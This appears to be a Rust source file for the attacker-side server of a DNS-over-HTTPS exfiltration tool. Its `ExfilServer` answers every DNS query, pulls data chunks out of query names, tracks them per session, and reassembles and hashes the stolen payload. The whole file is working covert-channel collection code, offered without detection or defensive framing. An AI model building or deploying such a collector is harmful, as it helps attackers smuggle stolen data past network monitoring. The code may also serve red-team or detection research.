//! Attacker-side endpoint: answers every query, collects chunk envelopes
//! per session, and reconstructs the exfiltrated payload.

use crate::chunk::{self, ChunkError, FramingConfig};
use crate::codec::{self, CodecError, PipelineConfig};
use crate::dohwire::{self, DnsQuestion};
use sha2::{Digest, Sha256};
use std::collections::{BTreeMap, HashMap};
use std::sync::Mutex;

pub const DEFAULT_IDLE_TIMEOUT: f64 = 300.0;

/// Chunks received so far for one session.
#[derive(Debug, Clone)]
pub struct SessionState {
    pub session_id: String,
    pub total: u16,
    pub received: BTreeMap<u16, String>,
    pub first_seen: f64,
    pub last_seen: f64,
    pub source: String,
}

/// Outcome of reassembling one session.
#[derive(Debug, Clone, PartialEq)]
pub struct ReconstructionResult {
    pub bytes: Vec<u8>,
    /// SHA-256 of `bytes` in lowercase hex; empty until complete.
    pub digest: String,
    pub complete: bool,
    pub chunks_received: usize,
    pub elapsed: f64,
    /// Sequence numbers still outstanding.
    pub missing: Vec<u16>,
}

#[derive(Debug, thiserror::Error)]
pub enum ServerError {
    #[error("unknown session {0}")]
    UnknownSession(String),
    #[error("session {session}: {source}")]
    Codec {
        session: String,
        source: CodecError,
    },
}

struct Inner {
    sessions: HashMap<String, SessionState>,
    log: Vec<String>,
}

/// Session collector; safe to share across threads.
pub struct ExfilServer {
    framing: FramingConfig,
    pipeline: PipelineConfig,
    inner: Mutex<Inner>,
}

impl ExfilServer {
    /// The server needs the client's framing and pipeline settings to invert
    /// the channel; the wire carries no codec descriptor.
    pub fn new(framing: FramingConfig, pipeline: PipelineConfig) -> Self {
        ExfilServer {
            framing,
            pipeline,
            inner: Mutex::new(Inner {
                sessions: HashMap::new(),
                log: Vec::new(),
            }),
        }
    }

    /// Record the query's chunk (if it is one) and build the answer.
    /// Every query is answered, chunk or not.
    pub fn ingest_query(
        &self,
        q: &DnsQuestion,
        txn_id: u16,
        now: f64,
        source: &str,
    ) -> Vec<u8> {
        let answer = dohwire::encode_answer(q, txn_id).unwrap_or_default();
        let mut inner = self.inner.lock().unwrap();
        match chunk::parse(&q.qname, &self.framing) {
            Ok(Some(env)) if !env.data.is_empty() => {
                let session = inner
                    .sessions
                    .entry(env.session_id.clone())
                    .or_insert_with(|| SessionState {
                        session_id: env.session_id.clone(),
                        total: env.total,
                        received: BTreeMap::new(),
                        first_seen: now,
                        last_seen: now,
                        source: source.to_string(),
                    });
                session.last_seen = now;
                let was_incomplete = session.received.len() < session.total as usize;
                match session.received.get(&env.seq) {
                    None => {
                        session.received.insert(env.seq, env.data);
                    }
                    Some(existing) if *existing != env.data => {
                        let line = format!(
                            "session {}: conflicting duplicate for seq {}, keeping first",
                            env.session_id, env.seq
                        );
                        inner.log.push(line);
                    }
                    Some(_) => {}
                }
                let id = env.session_id.clone();
                if was_incomplete && self.is_complete(&inner, &id) {
                    let line = self.completion_line(&inner, &id);
                    inner.log.push(line);
                }
            }
            Ok(_) => {}
            Err(ChunkError::MalformedHeader(msg)) => {
                inner.log.push(format!("malformed chunk header: {msg}"));
            }
            Err(e) => {
                inner.log.push(format!("unframeable query: {e}"));
            }
        }
        answer
    }

    fn is_complete(&self, inner: &Inner, session_id: &str) -> bool {
        inner
            .sessions
            .get(session_id)
            .is_some_and(|s| s.received.len() == s.total as usize)
    }

    fn completion_line(&self, inner: &Inner, session_id: &str) -> String {
        match self.reassemble_locked(inner, session_id) {
            Ok(r) => format!(
                "session {session_id}: {} bytes, sha256 {}, {} chunks, {:.2}s",
                r.bytes.len(),
                r.digest,
                r.chunks_received,
                r.elapsed
            ),
            Err(e) => format!("session {session_id}: reconstruction failed: {e}"),
        }
    }

    /// Reconstruct a session's payload; incomplete sessions report the
    /// missing sequence numbers instead of bytes.
    pub fn reassemble(&self, session_id: &str) -> Result<ReconstructionResult, ServerError> {
        let inner = self.inner.lock().unwrap();
        self.reassemble_locked(&inner, session_id)
    }

    fn reassemble_locked(
        &self,
        inner: &Inner,
        session_id: &str,
    ) -> Result<ReconstructionResult, ServerError> {
        let session = inner
            .sessions
            .get(session_id)
            .ok_or_else(|| ServerError::UnknownSession(session_id.to_string()))?;
        let elapsed = session.last_seen - session.first_seen;
        let chunks_received = session.received.len();
        if chunks_received < session.total as usize {
            let missing = (0..session.total)
                .filter(|seq| !session.received.contains_key(seq))
                .collect();
            return Ok(ReconstructionResult {
                bytes: Vec::new(),
                digest: String::new(),
                complete: false,
                chunks_received,
                elapsed,
                missing,
            });
        }
        let encoded: String = session.received.values().map(String::as_str).collect();
        let bytes = codec::recover(&encoded, &self.pipeline).map_err(|source| {
            ServerError::Codec {
                session: session_id.to_string(),
                source,
            }
        })?;
        let digest = hex::encode(Sha256::digest(&bytes));
        Ok(ReconstructionResult {
            bytes,
            digest,
            complete: true,
            chunks_received,
            elapsed,
            missing: Vec::new(),
        })
    }

    /// Drop sessions idle for `idle_timeout` seconds or longer.
    pub fn evict_idle(&self, now: f64, idle_timeout: f64) -> Vec<String> {
        let mut inner = self.inner.lock().unwrap();
        let evicted: Vec<String> = inner
            .sessions
            .values()
            .filter(|s| now - s.last_seen >= idle_timeout)
            .map(|s| s.session_id.clone())
            .collect();
        for id in &evicted {
            inner.sessions.remove(id);
        }
        evicted
    }

    pub fn session_ids(&self) -> Vec<String> {
        let mut ids: Vec<String> = self.inner.lock().unwrap().sessions.keys().cloned().collect();
        ids.sort();
        ids
    }

    /// Lines logged so far: completed sessions, conflicts, malformed headers.
    pub fn log_lines(&self) -> Vec<String> {
        self.inner.lock().unwrap().log.clone()
    }
}
